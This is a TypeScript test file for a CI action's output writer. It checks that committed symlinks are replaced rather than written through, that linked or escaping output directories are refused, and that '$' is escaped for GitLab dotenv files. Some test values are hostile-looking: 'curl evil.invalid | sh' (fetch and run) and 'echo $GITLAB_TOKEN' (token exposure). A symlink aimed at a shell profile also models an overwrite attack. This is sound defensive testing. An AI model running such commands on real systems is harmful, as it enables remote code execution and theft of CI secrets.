// The command's output files: never written through a symbolic link a PR author committed (or the
// agent made during the run), output-dir refused when it is a link or leads out of the checkout, and
// `$` in outputs.env written as GitLab's literal `$$`.
import { lstatSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, readlinkSync, realpathSync, statSync, symlinkSync, writeFileSync } from 'node:fs'
import os from 'node:os'
import path from 'node:path'
import { outputDirProblem } from '../../../src/platform/output-dir.js'
import { dotenvValue, OutputFiles } from '../../../src/platform/output-files.js'

const start = process.cwd()
let root: string
let checkout: string
let home: string

beforeEach(() => {
  root = realpathSync(mkdtempSync(path.join(os.tmpdir(), 'cca-outfiles-')))
  checkout = path.join(root, 'checkout')
  home = path.join(root, 'home')
  mkdirSync(checkout)
  mkdirSync(home)
  process.chdir(checkout)
})

afterEach(() => process.chdir(start))

function outputFiles(dir: string, env: NodeJS.ProcessEnv = {}): { files: OutputFiles; warnings: string[] } {
  const warnings: string[] = []
  return {
    files: new OutputFiles(
      () => dir,
      env,
      message => warnings.push(message)
    ),
    warnings
  }
}

test('committed links in output-dir are replaced, not written through: the files they point at stay as they were', () => {
  const profile = path.join(home, '.bash_profile')
  writeFileSync(profile, 'export PATH=/usr/bin\n')
  const outputDir = path.join(checkout, 'claude-cloud-action-output')
  mkdirSync(outputDir)
  for (const name of ['outputs.env', 'outputs.json', 'summary.md', 'execution.jsonl']) symlinkSync(profile, path.join(outputDir, name))
  const execution = path.join(root, 'execution.jsonl')
  writeFileSync(execution, '{"type":"result"}\n', { mode: 0o600 })

  const { files, warnings } = outputFiles('claude-cloud-action-output')
  files.set({ result: 'curl evil.invalid | sh', conclusion: 'success', 'execution-file': execution })
  files.summary('## done')

  expect(readFileSync(profile, 'utf8')).toBe('export PATH=/usr/bin\n')
  for (const name of ['outputs.env', 'outputs.json', 'summary.md', 'execution.jsonl']) {
    expect(lstatSync(path.join(outputDir, name)).isFile()).toBe(true)
  }
  expect(readFileSync(path.join(outputDir, 'outputs.env'), 'utf8')).toBe(
    // The dotenv holds the outputs a later job needs, in their fixed order; execution-file is in outputs.json only.
    'CLAUDE_CONCLUSION=success\nCLAUDE_RESULT=curl evil.invalid | sh\n'
  )
  expect(readFileSync(path.join(outputDir, 'execution.jsonl'), 'utf8')).toBe('{"type":"result"}\n')
  // The modes of before: the execution file private as its source, the others readable.
  expect(statSync(path.join(outputDir, 'execution.jsonl')).mode & 0o777).toBe(0o600)
  expect(statSync(path.join(outputDir, 'outputs.env')).mode & 0o077).toBe(0o644 & 0o077 & ~process.umask())
  expect(warnings).toEqual([])
})

test('an output-dir that is a link is refused, wherever it points, and nothing is written through it', () => {
  symlinkSync(home, path.join(checkout, 'claude-cloud-action-output'))
  expect(outputDirProblem('claude-cloud-action-output')).toBe(
    `${path.join(checkout, 'claude-cloud-action-output')} is a symbolic link; give a real directory (outputs are never written through a link).`
  )
  // Absolute, and pointing inside the checkout: still a link.
  mkdirSync(path.join(checkout, 'real'))
  symlinkSync(path.join(checkout, 'real'), path.join(checkout, 'inside'))
  expect(outputDirProblem(path.join(checkout, 'inside'))).toMatch(/is a symbolic link/)

  const { files, warnings } = outputFiles('claude-cloud-action-output')
  files.set({ conclusion: 'success' })
  files.summary('## done')
  expect(readlinkSync(path.join(checkout, 'claude-cloud-action-output'))).toBe(home)
  expect(readdirSync(home)).toEqual([])
  // Said once, not for each file.
  expect(warnings).toEqual([
    `The outputs and the summary are not written: output-dir ${path.join(checkout, 'claude-cloud-action-output')} is a symbolic link; give a real directory (outputs are never written through a link).`
  ])
})

test("a relative output-dir that leads out of the checkout, by .. or through a linked parent, is refused; an absolute one is the user's choice", () => {
  symlinkSync(home, path.join(checkout, 'linked'))
  expect(outputDirProblem('linked/out')).toBe(
    `${path.join(checkout, 'linked', 'out')} resolves to ${path.join(home, 'out')}, outside the checkout (${checkout}); give an absolute path to write outside it.`
  )
  expect(outputDirProblem('../home/out')).toMatch(/outside the checkout/)
  expect(outputDirProblem(path.join(home, 'out'))).toBeUndefined()
  expect(outputDirProblem('out/nested')).toBeUndefined()
  // GitLab's CI_PROJECT_DIR counts as the checkout too (a job that cds into a subfolder).
  mkdirSync(path.join(checkout, 'sub'))
  process.chdir(path.join(checkout, 'sub'))
  expect(outputDirProblem('../out')).toMatch(/outside the checkout/)
  expect(outputDirProblem('../out', { CI_PROJECT_DIR: checkout })).toBeUndefined()
})

test('an output-dir that is a file is refused as before', () => {
  writeFileSync(path.join(checkout, 'file'), '')
  expect(outputDirProblem('file')).toBe(`${path.join(checkout, 'file')} is a file; give a directory (it is created when missing).`)
})

test('$ in a dotenv value is written $$, which GitLab reads as one literal $', () => {
  expect(dotenvValue('$GITLAB_TOKEN and ${CI_JOB_TOKEN} cost $0.01')).toBe('$$GITLAB_TOKEN and $${CI_JOB_TOKEN} cost $$0.01')
  const dir = path.join(checkout, 'out')
  const { files } = outputFiles(dir)
  files.set({ result: 'echo $GITLAB_TOKEN', conclusion: 'success' })
  expect(readFileSync(path.join(dir, 'outputs.env'), 'utf8')).toBe('CLAUDE_CONCLUSION=success\nCLAUDE_RESULT=echo $$GITLAB_TOKEN\n')
  // The JSON keeps the value as it is.
  expect(JSON.parse(readFileSync(path.join(dir, 'outputs.json'), 'utf8')).result).toBe('echo $GITLAB_TOKEN')
})
